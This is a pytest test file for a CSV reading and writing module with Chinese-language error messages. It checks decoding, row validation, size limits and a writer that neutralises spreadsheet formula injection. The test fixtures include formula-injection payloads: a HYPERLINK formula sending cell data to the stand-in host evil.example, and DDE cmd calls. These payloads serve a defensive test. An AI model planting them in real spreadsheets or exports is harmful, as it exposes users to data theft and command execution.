"""core/csvio.py: the one decoder, row reader, error class and neutralising writer that
the job, station and booking files share."""

from __future__ import annotations

import csv
import io

import pytest

from core import csvio
from core.config import load_settings
from core.csvio import CsvImportError, Limits

COLUMNS = ("code", "name", "note")
LABELS = {"code": "编号", "name": "名称", "note": "备注"}


def read(text: str, limits: Limits | None = None) -> list[csvio.Row]:
    return csvio.read_rows(
        text, columns=COLUMNS, required=("code", "name"), labels=LABELS, limits=limits
    )


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- the writer: formula injection -----------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_excel_would_run_is_written_as_text(attack):
    [header, row] = cells(csvio.write_csv(["a", "b"], [[attack, "普通文字"]]))
    assert header == ["a", "b"]
    assert row == ["'" + attack, "普通文字"]


def test_ordinary_cells_are_written_unchanged():
    values = ["嘉定镇街道", "1-5 09:00-11:30", "31.38", "", "it's", "a=b", "3 7 8", 0, None]
    [_, row] = cells(csvio.write_csv(["x"] * len(values), [values]))
    assert row == ["嘉定镇街道", "1-5 09:00-11:30", "31.38", "", "it's", "a=b", "3 7 8", "0", ""]


@pytest.mark.parametrize(
    "value", [*ATTACKS, "'=already quoted", "''-two", "'plain", "'", "", "=", "正常"]
)
def test_reading_undoes_exactly_what_writing_added(value):
    assert csvio.restore(csvio.neutralise(value)) == value


# --- decoding ------------------------------------------------------------------------------------


def test_utf8_with_or_without_bom_and_gb18030_from_excel_are_read():
    text = "code,name\nA-1,南翔镇服务站\n"
    assert csvio.decode(text.encode()) == text
    assert csvio.decode(b"\xef\xbb\xbf" + text.encode()) == text
    assert csvio.decode(text.encode("gb18030")) == text
    with pytest.raises(CsvImportError) as caught:
        csvio.decode(b"\xff\xfe\x00\xd8\x00")
    assert "文件编码无法识别" in caught.value.problems[0]


def test_bytes_over_the_cap_are_refused_before_decoding():
    with pytest.raises(CsvImportError) as caught:
        csvio.decode(b"x" * 1025, Limits(max_bytes=1024, max_rows=10))
    assert caught.value.problems == ["文件超过 1 KB，请检查是否选错了文件，或分批导入。"]
    assert csvio.decode(b"x" * 1024, Limits(max_bytes=1024, max_rows=10)) == "x" * 1024


# --- the row reader ------------------------------------------------------------------------------


def test_rows_know_their_line_even_after_a_cell_over_two_lines():
    rows = read('\ufeffcode,name,note\nA,甲,"两行\n备注"\n\n,,\nB,乙,\n')
    assert [(r.line, r.values) for r in rows] == [
        (2, {"code": "A", "name": "甲", "note": "两行\n备注"}),
        (6, {"code": "B", "name": "乙", "note": ""}),
    ]


def test_a_column_the_header_lacks_reads_as_empty():
    [row] = read("name,code\n甲,A\n")
    assert (row.get("code"), row.get("name"), row.get("note")) == ("A", "甲", "")


def test_a_short_row_is_named_not_crashed_on():
    rows = read("code,name,note\nA,甲,\nB\nC,丙,,,\nD,丁,,多出来\n")
    assert [r.problems for r in rows] == [
        [],
        ["第 3 行：有 1 列，第一行的列名有 3 列；请检查是否少了或多了逗号，或引号没有成对。"],
        [],  # blank cells Excel adds after the last column are harmless
        ["第 5 行：有 4 列，第一行的列名有 3 列；请检查是否少了或多了逗号，或引号没有成对。"],
    ]


def test_unnamed_empty_columns_after_the_header_are_harmless():
    rows = read("code,name,note,,\nA,甲,\nB,乙,,,\nC,丙,,,x\n")
    assert [r.problems for r in rows] == [[], [], []]
    assert rows[0].values == {"code": "A", "name": "甲", "note": ""}


def test_an_unclosed_quote_is_reported_as_a_short_row():
    [good, bad] = read('code,name,note\nA,甲,\n"B,乙,\nC,丙,\n')
    assert good.problems == []
    assert bad.problems[0].startswith("第 3 行：有 1 列")


def test_control_characters_are_refused_with_the_cell_named():
    [row] = read("code,name,note\nA\x00B,甲,\x1b[31m红字\n")
    assert row.problems == [
        "第 2 行 code 列（编号）的“A\ufffdB”：含有不可见的控制字符",
        "第 2 行 note 列（备注）的“\ufffd[31m红字”：含有不可见的控制字符",
    ]


def test_the_header_is_checked_first():
    with pytest.raises(CsvImportError) as caught:
        read("code,note\nA,\n")
    assert caught.value.problems == ["第 1 行：缺少列 name（第一行应为列名：code,name,note）"]
    with pytest.raises(CsvImportError) as caught:
        read("code,name,code\nA,甲,B\n")
    assert caught.value.problems == ["第 1 行：列名 code 出现了不止一次"]
    with pytest.raises(CsvImportError) as caught:
        read("")
    assert caught.value.problems[0].startswith("文件是空的")


def test_too_many_rows_are_refused_before_any_row_is_checked():
    limits = Limits(max_bytes=1024 * 1024, max_rows=3)
    assert len(read("code,name,note\n" + "A,甲,\n" * 3, limits)) == 3
    # Row 5 would be a short row: the cap answers first, and alone.
    with pytest.raises(CsvImportError) as caught:
        read("code,name,note\n" + "A,甲,\n" * 3 + "B\n", limits)
    assert caught.value.problems == ["文件超过 3 行数据，请分批导入（每次最多 3 行）。"]


def test_text_over_the_byte_cap_is_refused_counted_as_utf8():
    limits = Limits(max_bytes=30, max_rows=10)
    text = "code,name,note\nA,南翔镇,\n"  # 24 bytes as UTF-8 (18 characters)
    assert len(read(text, limits)) == 1
    with pytest.raises(CsvImportError) as caught:
        read(text + "B,安亭,\n", limits)  # 34 bytes, though fewer than 30 characters
    assert caught.value.problems == ["文件超过 30 字节，请检查是否选错了文件，或分批导入。"]


def test_a_cell_over_the_csv_field_limit_is_named_not_crashed_on():
    with pytest.raises(CsvImportError) as caught:
        read('code,name,note\nA,甲,"' + "很长" * 70_000 + '"\n')
    assert caught.value.problems[0].startswith("第 2 行：有一格超过")


def test_a_formula_cell_written_by_an_export_reads_back_as_typed():
    exported = csvio.write_csv(COLUMNS, [["=A1", "@名称", "-减号"]])
    [row] = read(exported)
    assert row.values == {"code": "=A1", "name": "@名称", "note": "-减号"}


# --- messages --------------------------------------------------------------------------------------


def test_a_problem_quotes_the_value_on_one_line_and_shortens_a_long_one():
    assert (
        csvio.cell_problem(4, "town", "街镇", "浦东新区", "不是嘉定区的街镇")
        == "第 4 行 town 列（街镇）的“浦东新区”：不是嘉定区的街镇"
    )
    assert csvio.cell_problem(3, "employer", "用人单位", "  ", "请填写用人单位。") == (
        "第 3 行 employer 列（用人单位）为空：请填写用人单位。"
    )
    long = "长" * 100
    assert csvio.cell_problem(2, "name", "名称", long, "过长") == (
        f"第 2 行 name 列（名称）的“{'长' * 30}…（共 100 个字符）”：过长"
    )
    assert csvio.shown("两行\n备注\t好") == "两行 备注 好"


def test_the_caps_come_from_the_environment():
    settings = load_settings(
        {
            "VETBOT_CSV_MAX_BYTES": "2048",
            "VETBOT_CSV_MAX_JOB_ROWS": "7",
            "VETBOT_CSV_MAX_STATION_ROWS": "9",
        }
    )
    assert (
        settings.csv_max_bytes,
        settings.csv_max_job_rows,
        settings.csv_max_station_rows,
    ) == (2048, 7, 9)
    defaults = load_settings({})
    assert (defaults.csv_max_bytes, defaults.csv_max_job_rows) == (1024 * 1024, 5000)
    assert defaults.csv_max_station_rows == 500
